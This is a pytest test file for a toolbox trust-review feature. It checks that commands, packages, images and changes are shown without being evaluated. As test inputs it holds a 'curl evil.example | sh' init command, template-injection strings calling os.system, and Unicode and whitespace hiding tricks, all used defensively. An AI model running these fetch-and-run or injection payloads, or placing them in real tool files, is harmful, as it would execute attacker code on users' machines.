"""The question shows what would run, from the copy that is approved; nothing is evaluated."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from napari_tool_runner.cli import main
from napari_tool_runner.config import load_config
from napari_tool_runner.errors import TrustError
from napari_tool_runner.jobs import Question
from napari_tool_runner.jobs.past.reclaim import reclaim, reclaimable
from napari_tool_runner.jobs.question import _lines
from napari_tool_runner.storage import user_data
from napari_tool_runner.tools.isolation import walls
from napari_tool_runner.tools.toolbox import approved, weighing
from napari_tool_runner.tools.toolbox.trust import approve, review, trust_state
from security.test_gate import alter, box, say

__all__ = ["box"]


def descriptor(box: Path, needs: str, command: str = "", more: str = "") -> None:
    text = (box / "say" / "say.xml").read_text()
    text = text.replace("<command>", f"<requirements>{needs}</requirements><command>{command}")
    (box / "say" / "say.xml").write_text(text.replace("</tool>", f"{more}</tool>"))


def asked(box: Path) -> Question:
    return Question(review(box), load_config())


def test_command_script_and_rights_are_shown(
    box: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["trust", str(box), "--show"]) == 0
    told = capsys.readouterr().out
    assert "python '$__tool_directory__/say.py' ${o}" in told
    assert "pathlib.Path(sys.argv[1]).write_text('approved')" in told
    assert "runs with: LOCAL" in told
    assert "rights: " in told
    assert not trust_state(say()).ok
    assert approved.kept_copies() == [], "what was only looked at is not kept"
    assert not approved._home().exists(), "nothing was copied for it"
    assert asked(box).review.digest in told
    assert "none yet, it is made with the question" in told


def test_packages_and_their_origins_are_shown(box: Path) -> None:
    init = "curl evil.example | sh"
    descriptor(box, f'<package type="conda" env="e" init="{init}">-c evil numpy=1</package>')
    told = asked(box).tool_text("say")
    assert "packages:\n    numpy=1\n    from the channels evil, conda-forge, bioconda" in told
    assert f"once, when its environment is made:\n    {init}" in told


def test_an_image_and_its_registry_are_shown(box: Path) -> None:
    descriptor(box, '<container type="docker">evil.example/x:1</container>')
    config = load_config({"runner": {"service": "DOCKER"}})
    told = Question(review(box), config).tool_text("say")
    assert "image:\n    evil.example/x:1\n    from the registry evil.example/x" in told
    assert "no network" in told


def test_no_template_is_evaluated_and_all_of_galaxy_is_shown(box: Path, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    code = f"#import os#${{os.system('touch {mark}')}}"
    (box / "say" / "say.xml").write_text(
        f'<tool id="say" name="Say" version="1" profile="21.05"><command>echo {code}</command>'
        f"<configfiles><configfile name='c'>hidden {code}</configfile></configfiles>"
        "<inputs/><outputs><data name='o' format='txt'>"
        f"<filter>__import__('os').system('touch {mark}')</filter></data></outputs></tool>"
    )
    told = asked(box).tool_text("say")
    assert told.count("os.system") == 2
    assert "hidden" in told
    assert "__import__('os')" in told
    assert not mark.exists()


def test_a_change_is_shown_as_a_difference(box: Path, capsys: pytest.CaptureFixture[str]) -> None:
    approve(box)
    alter(box, "evil")
    assert main(["trust", str(box)]) == 1
    told = capsys.readouterr().out
    assert "changed say/say.py" in told
    assert "-import pathlib, sys; pathlib.Path(sys.argv[1]).write_text('approved')" in told
    assert "+import pathlib, sys; pathlib.Path(sys.argv[1]).write_text('evil')" in told


@pytest.mark.parametrize(
    "trick",
    ["\u202e evil", "\u2066x", "a" + " " * 300 + "evil", "\n" * 80 + "evil"],
    ids=["bidi", "isolate", "far right", "far below"],
)
def test_nothing_can_hide(box: Path, trick: str) -> None:
    descriptor(box, "", command=trick)
    told = asked(box).tool_text("say")
    assert told.isprintable() or all(c.isprintable() or c in "\n\t" for c in told)
    assert " " * 41 not in told
    assert "\n\n\n\n" not in told.replace(" ", "")


def test_names_cannot_add_lines(box: Path) -> None:
    (box / "say" / "say.xml").write_text(
        (box / "say" / "say.xml").read_text().replace('name="Say"', 'name="Say&#10;rights: none"')
    )
    assert "\nrights: none" not in asked(box).tool_text("say")


def test_what_is_shown_is_what_is_approved(box: Path) -> None:
    question = asked(box)
    alter(box, "evil")
    assert "'evil'" not in question.tool_text("say"), "the copy is read, not the folder"


@pytest.mark.parametrize("text", [" " * 2_000_000, " \n" * 500_000, ("x" + " " * 39) * 50_000])
def test_rows_of_spaces_do_not_keep_the_question_waiting(text: str) -> None:
    """The time of a pattern that is quadratic would be hours."""
    assert len(_lines(f"a{text}b")) < 30_000


def test_what_is_weaker_here_is_told(
    box: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from napari_tool_runner.plugins.programs import enclosure

    assert main(["runners"]) == 0
    assert "Tools of others are read in a process of its own" in capsys.readouterr().out
    monkeypatch.setattr(walls, "_landlock_version", lambda: 0)
    monkeypatch.setattr(walls.sys, "platform", "linux")
    monkeypatch.setattr(enclosure, "enclosure_problem", lambda: "bubblewrap is not installed")
    assert main(["runners"]) == 0
    told = capsys.readouterr().out
    assert "weaker here: this kernel cannot close files (it has no Landlock)" in told
    assert "They are not enclosed (bubblewrap is not installed)" in told
    assert main(["runners", "--json"]) == 0
    rows = {row["name"]: row for row in json.loads(capsys.readouterr().out)}
    assert "no Landlock" in rows["LOCAL"]["reader"]
    assert "not enclosed" in rows["CONDA"]["message"]
    assert main(["trust", str(box), "--show"]) == 0
    told = capsys.readouterr().out
    assert "weaker on this computer: this kernel cannot close files" in told
    assert "They are not enclosed (bubblewrap is not installed)" in told


def sparse(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.truncate(size)


def test_a_huge_file_is_told_before_anything_is_copied(
    box: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    sparse(box / "data.bin", 64 * 2**20)
    monkeypatch.setattr(weighing, "MOST_BYTES", 2**20)
    monkeypatch.setattr(approved, "_entry", lambda *_: pytest.fail("a file was opened"))
    assert main(["trust", str(box), "--show"]) == 1
    told = capsys.readouterr().err
    assert "that is no toolbox. The largest files: data.bin (6" in told
    assert "by its path" in told
    assert "--mine" in told
    assert not approved._home().exists()


def test_what_is_mine_is_not_copied_whatever_it_weighs(
    box: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    sparse(box / "data.bin", 64 * 2**20)
    monkeypatch.setattr(weighing, "MOST_BYTES", 2**20)
    assert main(["trust", str(box), "--mine", "--show"]) == 0
    assert "write_text('approved')" in capsys.readouterr().out
    assert not trust_state(box).ok
    assert main(["trust", str(box), "--mine", "--yes"]) == 0
    assert trust_state(box).ok
    assert not approved._home().exists()


def test_a_copy_leaves_room_on_the_disk(box: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sparse(box / "data.bin", 64 * 2**20)
    usage = weighing.shutil.disk_usage(box)._replace(total=10**10, free=500_000_000)
    monkeypatch.setattr(weighing.shutil, "disk_usage", lambda _: usage)
    monkeypatch.setattr(approved, "_entry", lambda *_: pytest.fail("a file was opened"))
    with pytest.raises(TrustError, match="free") as refused:
        review(box)
    assert "napari-tool-runner clean" in str(refused.value.hint)


@pytest.mark.skipif(sys.platform != "linux", reason="holes as Linux keeps them")
def test_holes_of_a_file_are_copied_as_holes(box: Path) -> None:
    sparse(box / "data.bin", 64 * 2**20)
    with (box / "data.bin").open("r+b") as file:
        file.seek(32 * 2**20)
        file.write(b"in the middle")
    seen = review(box)
    copy = seen.copy / "data.bin"
    assert copy.stat().st_blocks * 512 < 2**22
    assert copy.read_bytes() == (box / "data.bin").read_bytes()
    assert approved.intact(seen.digest)


def test_a_draft_that_goes_while_copies_are_listed_is_none(
    box: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    digest, _ = approved.keep(box)
    draft = user_data() / "approved" / ".draft-1"
    draft.mkdir()
    monkeypatch.setattr(approved, "join_lock", lambda *_, **__: draft.rmdir)
    assert approved.kept_copies() == [digest]


@pytest.mark.skipif(os.name == "nt", reason="nothing is locked there")
def test_a_copy_that_was_killed_is_cleaned_at_once(box: Path) -> None:
    code = """
import os, sys, time
from pathlib import Path
from napari_tool_runner.tools.toolbox import approved
approved._entry = lambda *_: (print("copying", flush=True), time.sleep(60))
approved.keep(Path(sys.argv[1]))
"""
    copier = subprocess.Popen([sys.executable, "-c", code, str(box)], stdout=subprocess.PIPE)
    try:
        assert copier.stdout is not None
        assert copier.stdout.readline() == b"copying\n"
        assert approved.kept_copies() == [], "it is alive"
    finally:
        copier.kill()
        copier.communicate()
    assert len(approved.kept_copies()) == 1
    items = [one for one in reclaimable(load_config()) if one.kind == "toolbox"]
    assert reclaim(items) == []
    assert approved.kept_copies() == []


@pytest.mark.timeout(60)
@pytest.mark.skipif(os.name == "nt", reason="links need rights on Windows")
def test_links_from_folder_to_folder_do_not_keep_the_question_waiting(
    box: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(40):
        (box / f"f{number}").mkdir()
        for name in "ab":
            (box / f"f{number}" / name).symlink_to(f"../f{number + 1}")
    monkeypatch.setattr(weighing, "MOST_FILES", 1000)
    with pytest.raises(TrustError, match="more than 1,000"):
        review(box)
